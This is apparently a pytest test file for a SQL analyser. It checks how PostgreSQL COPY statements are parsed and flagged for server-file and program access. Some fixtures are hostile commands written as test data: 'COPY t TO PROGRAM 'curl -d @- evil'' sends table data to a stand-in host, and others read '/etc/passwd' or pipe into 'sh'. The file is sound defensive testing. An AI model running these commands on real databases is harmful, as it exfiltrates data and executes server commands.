"""COPY: direction, endpoint, format options, server-side escapes."""

from __future__ import annotations

from typing import Any

import pytest

from bastion.sql.statement import CopyInfo

from .helpers import names, one

COPIES = [
    ("COPY t TO STDOUT", CopyInfo("to", "stdout"), {"t"}, set()),
    (
        "COPY t (a, b) TO STDOUT WITH (FORMAT csv)",
        CopyInfo("to", "stdout", format="csv"),
        {"t"},
        set(),
    ),
    ("COPY t FROM STDIN", CopyInfo("from", "stdin"), set(), {"t"}),
    ("COPY (SELECT * FROM t) TO STDOUT", CopyInfo("to", "stdout", query=True), {"t"}, set()),
    (
        "COPY (DELETE FROM t RETURNING *) TO STDOUT",
        CopyInfo("to", "stdout", query=True),
        {"t"},
        {"t"},
    ),
    ("COPY t TO '/tmp/t.csv'", CopyInfo("to", "file", "/tmp/t.csv"), {"t"}, set()),
    ("COPY t FROM '/etc/passwd'", CopyInfo("from", "file", "/etc/passwd"), set(), {"t"}),
    (
        "COPY t TO PROGRAM 'curl -d @- evil'",
        CopyInfo("to", "program", "curl -d @- evil"),
        {"t"},
        set(),
    ),
    ("COPY t FROM PROGRAM 'id'", CopyInfo("from", "program", "id"), set(), {"t"}),
    ("COPY (SELECT 1) TO PROGRAM 'sh'", CopyInfo("to", "program", "sh", query=True), set(), set()),
]


@pytest.mark.parametrize(("sql", "copy", "read", "written"), COPIES, ids=[c[0] for c in COPIES])
def test_copy(sql: str, copy: CopyInfo, read: set[str], written: set[str]) -> None:
    info = one(sql)
    assert info.kind == "copy"
    assert info.copy == copy
    assert names(info.tables_read) == read
    assert names(info.tables_written) == written
    assert ("copy_program" in info.flags) is (copy.target == "program")
    assert ("copy_server_file" in info.flags) is (copy.target == "file")


def test_copy_query_statement_is_listed() -> None:
    info = one("COPY (DELETE FROM t RETURNING *) TO STDOUT")
    assert [inner.kind for inner in info.inner] == ["delete"]


def test_non_copy_statements_have_no_copy_info() -> None:
    assert one("SELECT 1").copy is None


def test_default_options_are_text() -> None:
    copy = one("COPY t TO STDOUT").copy
    assert copy is not None
    assert (copy.format, copy.delimiter, copy.null, copy.header) == ("text", None, None, False)
    assert (copy.quote, copy.escape, copy.force_quote, copy.encoding) == (None, None, False, None)
    assert copy.options_known


def test_csv_options() -> None:
    sql = (
        "COPY t TO STDOUT WITH (FORMAT csv, HEADER, DELIMITER ';', NULL 'x', QUOTE '''', "
        "ESCAPE '\\')"
    )
    expected = CopyInfo(
        "to", "stdout", format="csv", delimiter=";", null="x", header=True, quote="'", escape="\\"
    )
    assert one(sql).copy == expected


OPTIONS: list[tuple[str, dict[str, Any]]] = [
    # the old syntax becomes the same options
    ("COPY t TO STDOUT WITH CSV HEADER", {"format": "csv", "header": True}),
    ("COPY t TO STDOUT BINARY", {"format": "binary"}),
    ("COPY t TO STDOUT (FORMAT binary)", {"format": "binary"}),
    ("COPY t TO STDOUT DELIMITER '|'", {"delimiter": "|"}),
    ("COPY t TO STDOUT WITH DELIMITER AS ',' NULL AS ''", {"delimiter": ",", "null": ""}),
    ("COPY t TO STDOUT (DELIMITER E'\\t')", {"delimiter": "\t"}),
    (
        "COPY t TO STDOUT CSV QUOTE AS '\"' ESCAPE AS 'e' FORCE QUOTE a, b",
        {"format": "csv", "quote": '"', "escape": "e", "force_quote": True},
    ),
    ("COPY t TO STDOUT (FORMAT csv, FORCE_QUOTE *)", {"format": "csv", "force_quote": True}),
    ("COPY t TO STDOUT (FORMAT csv, FORCE_QUOTE (a))", {"format": "csv", "force_quote": True}),
    ("COPY t TO STDOUT (ENCODING 'LATIN1')", {"encoding": "LATIN1"}),
    # HEADER as a boolean, a string or an integer
    ("COPY t TO STDOUT (FORMAT csv, HEADER true)", {"format": "csv", "header": True}),
    ("COPY t TO STDOUT (FORMAT csv, HEADER 1)", {"format": "csv", "header": True}),
    ("COPY t TO STDOUT (FORMAT csv, HEADER on)", {"format": "csv", "header": True}),
    ("COPY t TO STDOUT (FORMAT csv, HEADER 'TRUE')", {"format": "csv", "header": True}),
    ("COPY t TO STDOUT (FORMAT csv, HEADER false)", {"format": "csv"}),
    ("COPY t TO STDOUT (FORMAT csv, HEADER 0)", {"format": "csv"}),
    ("COPY t TO STDOUT (FORMAT csv, HEADER off)", {"format": "csv"}),
    ("COPY t FROM STDIN (FORMAT csv, HEADER match)", {"format": "csv", "header": True}),
    # options that leave the data's layout as it is
    ("COPY t FROM STDIN (FREEZE, ON_ERROR ignore)", {}),
    # what the server rejects, or a newer server might read differently: not known
    ('COPY t TO STDOUT (FORMAT "CSV")', {"options_known": False}),
    ("COPY t TO STDOUT (FORMAT parquet)", {"options_known": False}),
    ("COPY t TO STDOUT (FORMAT csv, HEADER 2)", {"format": "csv", "options_known": False}),
    ("COPY t TO STDOUT (FORMAT csv, HEADER maybe)", {"format": "csv", "options_known": False}),
    ("COPY t TO STDOUT (DELIMITER *)", {"options_known": False}),
    ("COPY t TO STDOUT (NULL (a, b))", {"options_known": False}),
    ("COPY t TO STDOUT (SOMETHING_NEW 'x')", {"options_known": False}),
]


@pytest.mark.parametrize(("sql", "fields"), OPTIONS, ids=[o[0] for o in OPTIONS])
def test_options(sql: str, fields: dict[str, Any]) -> None:
    direction, target = ("from", "stdin") if " FROM " in sql else ("to", "stdout")
    assert one(sql).copy == CopyInfo(direction, target, **fields)
